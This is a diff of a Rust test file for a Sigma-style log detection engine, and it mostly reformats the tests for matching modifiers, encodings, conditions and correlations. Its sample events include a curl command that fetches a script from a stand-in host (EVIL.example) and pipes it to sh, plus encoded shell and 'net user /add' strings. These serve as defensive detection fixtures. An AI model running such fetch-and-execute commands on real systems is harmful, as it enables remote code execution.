@@ -8,13 +8,18 @@ use super::*;
 use crate::event::{intern, Event, Kind, LogSource, Timestamp, Value};
 
 fn set(yaml: &str) -> RuleSet {
-    let (set, report) = RuleSet::from_sources(&[(Path::new("t.yml"), yaml)], &LoadOptions::default());
+    let (set, report) =
+        RuleSet::from_sources(&[(Path::new("t.yml"), yaml)], &LoadOptions::default());
     assert!(report.errors.is_empty(), "{report}");
     set
 }
 
 fn ev(ts_s: i64, fields: &[(&str, Value)]) -> Event {
-    let mut e = Event::new(Timestamp::from_secs_nanos(ts_s, 0), Kind::Log, LogSource::product_service("linux", "auditd"));
+    let mut e = Event::new(
+        Timestamp::from_secs_nanos(ts_s, 0),
+        Kind::Log,
+        LogSource::product_service("linux", "auditd"),
+    );
     for (k, v) in fields {
         e.fields.push(intern(k), v.clone());
     }
@@ -26,7 +31,8 @@ fn s(v: &str) -> Value {
 }
 
 fn detect(rule_detection: &str, event: &Event) -> bool {
-    let yaml = format!("title: t\nid: r1\nlogsource:\n  product: linux\ndetection:\n{rule_detection}");
+    let yaml =
+        format!("title: t\nid: r1\nlogsource:\n  product: linux\ndetection:\n{rule_detection}");
     let mut e = Engine::new(Arc::new(set(&yaml)));
     let mut out = Vec::new();
     e.process(event, &mut out);
@@ -38,37 +44,97 @@ fn plain_values_are_case_insensitive_exact() {
     let e = ev(0, &[("comm", s("Bash"))]);
     assert!(detect("  sel:\n    comm: bash\n  condition: sel\n", &e));
     assert!(!detect("  sel:\n    comm: bas\n  condition: sel\n", &e));
-    assert!(!detect("  sel:\n    comm|cased: bash\n  condition: sel\n", &e));
-    assert!(detect("  sel:\n    comm|cased: Bash\n  condition: sel\n", &e));
+    assert!(!detect(
+        "  sel:\n    comm|cased: bash\n  condition: sel\n",
+        &e
+    ));
+    assert!(detect(
+        "  sel:\n    comm|cased: Bash\n  condition: sel\n",
+        &e
+    ));
 }
 
 #[test]
 fn string_modifiers_and_wildcards() {
-    let e = ev(0, &[("CommandLine", s("/usr/bin/curl -s http://EVIL.example/x.sh | sh"))]);
-    assert!(detect("  sel:\n    CommandLine|contains: evil.example\n  condition: sel\n", &e));
-    assert!(detect("  sel:\n    CommandLine|startswith: /usr/bin/curl\n  condition: sel\n", &e));
-    assert!(detect("  sel:\n    CommandLine|endswith: '| sh'\n  condition: sel\n", &e));
-    assert!(detect("  sel:\n    CommandLine: '*curl*http://*.sh*'\n  condition: sel\n", &e));
-    assert!(detect("  sel:\n    CommandLine: '/usr/bin/cur? *'\n  condition: sel\n", &e));
-    assert!(!detect("  sel:\n    CommandLine: 'curl*'\n  condition: sel\n", &e));
-    assert!(detect("  sel:\n    CommandLine|contains|all: [curl, ' | sh']\n  condition: sel\n", &e));
-    assert!(!detect("  sel:\n    CommandLine|contains|all: [curl, wget]\n  condition: sel\n", &e));
-    assert!(detect("  sel:\n    CommandLine|contains: [wget, curl]\n  condition: sel\n", &e));
+    let e = ev(
+        0,
+        &[(
+            "CommandLine",
+            s("/usr/bin/curl -s http://EVIL.example/x.sh | sh"),
+        )],
+    );
+    assert!(detect(
+        "  sel:\n    CommandLine|contains: evil.example\n  condition: sel\n",
+        &e
+    ));
+    assert!(detect(
+        "  sel:\n    CommandLine|startswith: /usr/bin/curl\n  condition: sel\n",
+        &e
+    ));
+    assert!(detect(
+        "  sel:\n    CommandLine|endswith: '| sh'\n  condition: sel\n",
+        &e
+    ));
+    assert!(detect(
+        "  sel:\n    CommandLine: '*curl*http://*.sh*'\n  condition: sel\n",
+        &e
+    ));
+    assert!(detect(
+        "  sel:\n    CommandLine: '/usr/bin/cur? *'\n  condition: sel\n",
+        &e
+    ));
+    assert!(!detect(
+        "  sel:\n    CommandLine: 'curl*'\n  condition: sel\n",
+        &e
+    ));
+    assert!(detect(
+        "  sel:\n    CommandLine|contains|all: [curl, ' | sh']\n  condition: sel\n",
+        &e
+    ));
+    assert!(!detect(
+        "  sel:\n    CommandLine|contains|all: [curl, wget]\n  condition: sel\n",
+        &e
+    ));
+    assert!(detect(
+        "  sel:\n    CommandLine|contains: [wget, curl]\n  condition: sel\n",
+        &e
+    ));
     let star = ev(0, &[("a", s("x*y"))]);
     assert!(detect("  sel:\n    a: 'x\\*y'\n  condition: sel\n", &star));
-    assert!(!detect("  sel:\n    a: 'x\\*y'\n  condition: sel\n", &ev(0, &[("a", s("xzy"))])));
+    assert!(!detect(
+        "  sel:\n    a: 'x\\*y'\n  condition: sel\n",
+        &ev(0, &[("a", s("xzy"))])
+    ));
 }
 
 #[test]
 fn regex_and_flags() {
     let e = ev(0, &[("a", s("Hello\nWorld"))]);
     assert!(detect("  sel:\n    a|re: '^Hello'\n  condition: sel\n", &e));
-    assert!(!detect("  sel:\n    a|re: '^hello'\n  condition: sel\n", &e));
-    assert!(detect("  sel:\n    a|re|i: '^hello'\n  condition: sel\n", &e));
-    assert!(!detect("  sel:\n    a|re: '^World'\n  condition: sel\n", &e));
-    assert!(detect("  sel:\n    a|re|m: '^World'\n  condition: sel\n", &e));
-    assert!(!detect("  sel:\n    a|re: 'Hello.World'\n  condition: sel\n", &e));
-    assert!(detect("  sel:\n    a|re|s: 'Hello.World'\n  condition: sel\n", &e));
+    assert!(!detect(
+        "  sel:\n    a|re: '^hello'\n  condition: sel\n",
+        &e
+    ));
+    assert!(detect(
+        "  sel:\n    a|re|i: '^hello'\n  condition: sel\n",
+        &e
+    ));
+    assert!(!detect(
+        "  sel:\n    a|re: '^World'\n  condition: sel\n",
+        &e
+    ));
+    assert!(detect(
+        "  sel:\n    a|re|m: '^World'\n  condition: sel\n",
+        &e
+    ));
+    assert!(!detect(
+        "  sel:\n    a|re: 'Hello.World'\n  condition: sel\n",
+        &e
+    ));
+    assert!(detect(
+        "  sel:\n    a|re|s: 'Hello.World'\n  condition: sel\n",
+        &e
+    ));
 }
 
 #[test]
@@ -82,62 +148,136 @@ fn cidr_numbers_exists_null() {
             ("empty", Value::Null),
         ],
     );
-    assert!(detect("  sel:\n    dst_ip|cidr: 10.0.0.0/8\n  condition: sel\n", &e));
-    assert!(detect("  sel:\n    src_ip|cidr: [10.0.0.0/8, 192.168.0.0/16]\n  condition: sel\n", &e));
-    assert!(!detect("  sel:\n    src_ip|cidr: 10.0.0.0/8\n  condition: sel\n", &e));
-    assert!(detect("  sel:\n    dst_port|gt: 21\n  condition: sel\n", &e));
-    assert!(detect("  sel:\n    dst_port|gte: 22\n  condition: sel\n", &e));
-    assert!(!detect("  sel:\n    dst_port|lt: 22\n  condition: sel\n", &e));
-    assert!(detect("  sel:\n    dst_port|lte: 22\n  condition: sel\n", &e));
+    assert!(detect(
+        "  sel:\n    dst_ip|cidr: 10.0.0.0/8\n  condition: sel\n",
+        &e
+    ));
+    assert!(detect(
+        "  sel:\n    src_ip|cidr: [10.0.0.0/8, 192.168.0.0/16]\n  condition: sel\n",
+        &e
+    ));
+    assert!(!detect(
+        "  sel:\n    src_ip|cidr: 10.0.0.0/8\n  condition: sel\n",
+        &e
+    ));
+    assert!(detect(
+        "  sel:\n    dst_port|gt: 21\n  condition: sel\n",
+        &e
+    ));
+    assert!(detect(
+        "  sel:\n    dst_port|gte: 22\n  condition: sel\n",
+        &e
+    ));
+    assert!(!detect(
+        "  sel:\n    dst_port|lt: 22\n  condition: sel\n",
+        &e
+    ));
+    assert!(detect(
+        "  sel:\n    dst_port|lte: 22\n  condition: sel\n",
+        &e
+    ));
     assert!(detect("  sel:\n    dst_port: 22\n  condition: sel\n", &e));
     assert!(detect("  sel:\n    dst_port: '22'\n  condition: sel\n", &e));
-    assert!(detect("  sel:\n    dst_port|exists: true\n  condition: sel\n", &e));
-    assert!(detect("  sel:\n    nope|exists: false\n  condition: sel\n", &e));
+    assert!(detect(
+        "  sel:\n    dst_port|exists: true\n  condition: sel\n",
+        &e
+    ));
+    assert!(detect(
+        "  sel:\n    nope|exists: false\n  condition: sel\n",
+        &e
+    ));
     assert!(detect("  sel:\n    nope: null\n  condition: sel\n", &e));
     assert!(detect("  sel:\n    empty: null\n  condition: sel\n", &e));
-    assert!(!detect("  sel:\n    dst_port: null\n  condition: sel\n", &e));
-    assert!(detect("  sel:\n    dst_port|neq: 23\n  condition: sel\n", &e));
+    assert!(!detect(
+        "  sel:\n    dst_port: null\n  condition: sel\n",
+        &e
+    ));
+    assert!(detect(
+        "  sel:\n    dst_port|neq: 23\n  condition: sel\n",
+        &e
+    ));
 }
 
 #[test]
 fn fieldref_and_field_mapping() {
-    let e = ev(0, &[("user", s("root")), ("target", s("ROOT")), ("dst_ip", s("1.2.3.4"))]);
-    assert!(detect("  sel:\n    user|fieldref: target\n  condition: sel\n", &e));
-    assert!(!detect("  sel:\n    user|fieldref: dst_ip\n  condition: sel\n", &e));
+    let e = ev(
+        0,
+        &[
+            ("user", s("root")),
+            ("target", s("ROOT")),
+            ("dst_ip", s("1.2.3.4")),
+        ],
+    );
+    assert!(detect(
+        "  sel:\n    user|fieldref: target\n  condition: sel\n",
+        &e
+    ));
+    assert!(!detect(
+        "  sel:\n    user|fieldref: dst_ip\n  condition: sel\n",
+        &e
+    ));
     // Sigma's DestinationIp reads vigil's dst_ip.
-    assert!(detect("  sel:\n    DestinationIp: 1.2.3.4\n  condition: sel\n", &e));
+    assert!(detect(
+        "  sel:\n    DestinationIp: 1.2.3.4\n  condition: sel\n",
+        &e
+    ));
 }
 
 #[test]
 fn encodings() {
     // "ping" base64: cGluZw==
     let e = ev(0, &[("a", s("x cGluZw== y"))]);
-    assert!(detect("  sel:\n    a|base64|contains: ping\n  condition: sel\n", &e));
+    assert!(detect(
+        "  sel:\n    a|base64|contains: ping\n  condition: sel\n",
+        &e
+    ));
     // base64offset finds the value at any offset of a longer base64 text.
     let enc = "ZWNobyAvYmluL2Jhc2ggLWk="; // "echo /bin/bash -i"
-    assert!(detect("  sel:\n    a|base64offset|contains: /bin/bash\n  condition: sel\n", &ev(0, &[("a", s(enc))])));
+    assert!(detect(
+        "  sel:\n    a|base64offset|contains: /bin/bash\n  condition: sel\n",
+        &ev(0, &[("a", s(enc))])
+    ));
     // utf16le then base64 (PowerShell -enc style): "cmd" -> YwBtAGQA
     let e = ev(0, &[("a", s("-enc YwBtAGQA"))]);
-    assert!(detect("  sel:\n    a|utf16le|base64offset|contains: cmd\n  condition: sel\n", &e));
-    assert!(detect("  sel:\n    a|wide|base64offset|contains: cmd\n  condition: sel\n", &e));
+    assert!(detect(
+        "  sel:\n    a|utf16le|base64offset|contains: cmd\n  condition: sel\n",
+        &e
+    ));
+    assert!(detect(
+        "  sel:\n    a|wide|base64offset|contains: cmd\n  condition: sel\n",
+        &e
+    ));
     let e = ev(0, &[("a", s("AGMAbQBk"))]); // utf16be "cmd" base64
-    assert!(detect("  sel:\n    a|utf16be|base64|contains: cmd\n  condition: sel\n", &e));
+    assert!(detect(
+        "  sel:\n    a|utf16be|base64|contains: cmd\n  condition: sel\n",
+        &e
+    ));
     let e = ev(0, &[("a", s("//5jAG0AZAA="))]); // utf16 with BOM
-    assert!(detect("  sel:\n    a|utf16|base64: cmd\n  condition: sel\n", &e));
+    assert!(detect(
+        "  sel:\n    a|utf16|base64: cmd\n  condition: sel\n",
+        &e
+    ));
 }
 
 #[test]
 fn windash() {
     for cl in ["net user /add", "net user -add", "net user \u{2013}add"] {
         let e = ev(0, &[("CommandLine", s(cl))]);
-        assert!(detect("  sel:\n    CommandLine|windash|contains: ' -add'\n  condition: sel\n", &e), "{cl}");
+        assert!(
+            detect(
+                "  sel:\n    CommandLine|windash|contains: ' -add'\n  condition: sel\n",
+                &e
+            ),
+            "{cl}"
+        );
     }
 }
 
 #[test]
 fn expand_binds_indicator_lists() {
     let mut opts = LoadOptions::default();
-    opts.indicators.insert("admins".into(), vec!["alice".into(), "bob".into()]);
+    opts.indicators
+        .insert("admins".into(), vec!["alice".into(), "bob".into()]);
     let yaml = "title: t\nlogsource: {product: linux}\ndetection:\n  sel:\n    user|expand: '%admins%'\n  condition: sel\n";
     let (set, report) = RuleSet::from_sources(&[(Path::new("t.yml"), yaml)], &opts);
     assert!(report.errors.is_empty(), "{report}");
@@ -152,19 +292,41 @@ fn expand_binds_indicator_lists() {
 
 #[test]
 fn keywords_and_lists() {
-    let e = ev(0, &[("msg", s("Accepted password for ROOT")), ("tags", Value::List(vec![s("a"), s("b")]))]);
-    assert!(detect("  keywords:\n    - 'password for root'\n    - zzz\n  condition: keywords\n", &e));
-    assert!(detect("  keywords: 'pass*root'\n  condition: keywords\n", &e));
-    assert!(!detect("  keywords:\n    - nothing\n  condition: keywords\n", &e));
-    assert!(detect("  sel:\n    '|all':\n      - accepted\n      - root\n  condition: sel\n", &e));
+    let e = ev(
+        0,
+        &[
+            ("msg", s("Accepted password for ROOT")),
+            ("tags", Value::List(vec![s("a"), s("b")])),
+        ],
+    );
+    assert!(detect(
+        "  keywords:\n    - 'password for root'\n    - zzz\n  condition: keywords\n",
+        &e
+    ));
+    assert!(detect(
+        "  keywords: 'pass*root'\n  condition: keywords\n",
+        &e
+    ));
+    assert!(!detect(
+        "  keywords:\n    - nothing\n  condition: keywords\n",
+        &e
+    ));
+    assert!(detect(
+        "  sel:\n    '|all':\n      - accepted\n      - root\n  condition: sel\n",
+        &e
+    ));
     assert!(detect("  sel:\n    tags: b\n  condition: sel\n", &e));
-    assert!(detect("  sel:\n    - msg: nope\n    - tags: a\n  condition: sel\n", &e));
+    assert!(detect(
+        "  sel:\n    - msg: nope\n    - tags: a\n  condition: sel\n",
+        &e
+    ));
 }
 
 #[test]
 fn condition_forms() {
     let e = ev(0, &[("a", s("1")), ("b", s("2"))]);
-    let sels = "  sel_a:\n    a: 1\n  sel_b:\n    b: 2\n  filter_x:\n    a: 9\n  _hidden:\n    a: 7\n";
+    let sels =
+        "  sel_a:\n    a: 1\n  sel_b:\n    b: 2\n  filter_x:\n    a: 9\n  _hidden:\n    a: 7\n";
     for (cond, want) in [
         ("sel_a and sel_b", true),
         ("sel_a and not sel_b", false),
@@ -177,17 +339,26 @@ fn condition_forms() {
         ("all of sel_* and not 1 of filter*", true),
         ("(sel_a and (sel_b or filter_x)) and not _hidden", true),
     ] {
-        assert_eq!(detect(&format!("{sels}  condition: {cond}\n"), &e), want, "{cond}");
+        assert_eq!(
+            detect(&format!("{sels}  condition: {cond}\n"), &e),
+            want,
+            "{cond}"
+        );
     }
 }
 
 #[test]
 fn nested_paths() {
-    let v = Value::from_json(serde_json::json!({"spec": {"containers": [{"image": "nginx"}, {"image": "evil"}]}}));
+    let v = Value::from_json(
+        serde_json::json!({"spec": {"containers": [{"image": "nginx"}, {"image": "evil"}]}}),
+    );
     let Value::Map(m) = v else { panic!() };
     let mut e = ev(0, &[]);
     e.fields = m;
-    assert!(detect("  sel:\n    spec.containers.image: evil\n  condition: sel\n", &e));
+    assert!(detect(
+        "  sel:\n    spec.containers.image: evil\n  condition: sel\n",
+        &e
+    ));
 }
 
 #[test]
@@ -244,8 +415,14 @@ level: high
 
 fn flow(ts_ns: i64, dport: i64) -> Event {
     let mut e = Event::new(Timestamp(ts_ns), Kind::Flow, LogSource::category("flow"));
-    e.fields.push(crate::event::f::SRC_IP, Value::Ip("10.0.0.1".parse().unwrap()));
-    e.fields.push(crate::event::f::DST_IP, Value::Ip("10.0.0.2".parse().unwrap()));
+    e.fields.push(
+        crate::event::f::SRC_IP,
+        Value::Ip("10.0.0.1".parse().unwrap()),
+    );
+    e.fields.push(
+        crate::event::f::DST_IP,
+        Value::Ip("10.0.0.2".parse().unwrap()),
+    );
     e.fields.push(crate::event::f::DST_PORT, dport);
     e.fields.push(crate::event::f::PROTO, "tcp");
     e
@@ -274,7 +451,13 @@ fn value_count_on_event_time() {
     assert_eq!(out.len(), 1, "{out:?}");
     let c = out[0].correlation.as_ref().unwrap();
     assert_eq!(c.count, 5.0);
-    assert_eq!(c.group, [("src_ip".into(), "10.0.0.1".into()), ("dst_ip".into(), "10.0.0.2".into())]);
+    assert_eq!(
+        c.group,
+        [
+            ("src_ip".into(), "10.0.0.1".into()),
+            ("dst_ip".into(), "10.0.0.2".into())
+        ]
+    );
     assert_eq!(c.event_ids.len(), 8);
     // The member rule does not alert by itself (no `generate`).
     assert!(out.iter().all(|a| a.rule.id == "scan"));
@@ -327,7 +510,16 @@ correlation: {type: event_count, rules: [a], group-by: [u], timespan: 1m, condit
 ";
     let rs = Arc::new(set(rules));
     let e = |t: i64, k: &str, u: &str| ev(t, &[("k", s(k)), ("u", s(u))]);
-    let out = run(&rs, &[e(0, "a", "x"), e(1, "a", "x"), e(2, "b", "x"), e(3, "a", "x"), e(200, "a", "y")]);
+    let out = run(
+        &rs,
+        &[
+            e(0, "a", "x"),
+            e(1, "a", "x"),
+            e(2, "b", "x"),
+            e(3, "a", "x"),
+            e(200, "a", "y"),
+        ],
+    );
     let ids: Vec<&str> = out.iter().map(|a| a.rule.id.as_str()).collect();
     // generate: true on `few` makes A alert by itself (4 events of k=a).
     assert_eq!(ids.iter().filter(|i| **i == "a").count(), 4, "{ids:?}");
@@ -388,7 +580,10 @@ suppression:
     let (rs, _) = RuleSet::from_sources(&[(Path::new("t.yml"), plain.as_str())], &opts);
     let out = run(&Arc::new(rs), &evs);
     // windows [0,5) and [5,10): each a first alert plus a closing count of 5
-    assert_eq!(out.iter().map(|a| a.count).collect::<Vec<_>>(), [1, 5, 1, 5]);
+    assert_eq!(
+        out.iter().map(|a| a.count).collect::<Vec<_>>(),
+        [1, 5, 1, 5]
+    );
 }
 
 #[test]
@@ -409,24 +604,37 @@ filter:
   condition: selection
 ";
     let rs = Arc::new(set(rules));
-    let out = run(&rs, &[ev(0, &[("User", s("alice"))]), ev(0, &[("User", s("adm_bob"))])]);
+    let out = run(
+        &rs,
+        &[
+            ev(0, &[("User", s("alice"))]),
+            ev(0, &[("User", s("adm_bob"))]),
+        ],
+    );
     assert_eq!(out.len(), 1);
 }
 
 #[test]
 fn errors_name_file_line_and_fix() {
     let bad = "title: t\nlogsource: {product: linux}\ndetection:\n  sel:\n    a|contians: x\n  condition: sel\n";
-    let (_, report) = RuleSet::from_sources(&[(Path::new("rules/foo.yml"), bad)], &LoadOptions::default());
+    let (_, report) = RuleSet::from_sources(
+        &[(Path::new("rules/foo.yml"), bad)],
+        &LoadOptions::default(),
+    );
     assert_eq!(
         report.errors[0].to_string(),
         "rules/foo.yml:5: unknown modifier '|contians'; did you mean 'contains'?"
     );
     let bad = "title: t\nlogsource: {product: linux}\ndetection:\n  sel:\n    a: x\n  condition: sel and filter\n";
     let (_, report) = RuleSet::from_sources(&[(Path::new("f.yml"), bad)], &LoadOptions::default());
-    assert!(report.errors[0].to_string().starts_with("f.yml:6: condition names 'filter'"));
+    assert!(report.errors[0]
+        .to_string()
+        .starts_with("f.yml:6: condition names 'filter'"));
     let bad = "title: t\ndetection:\n  sel:\n    a|re: '(unclosed'\n  condition: sel\n";
     let (_, report) = RuleSet::from_sources(&[(Path::new("f.yml"), bad)], &LoadOptions::default());
-    assert!(report.errors[0].to_string().starts_with("f.yml:4: invalid regular expression"));
+    assert!(report.errors[0]
+        .to_string()
+        .starts_with("f.yml:4: invalid regular expression"));
 }
 
 fn corpus() -> PathBuf {
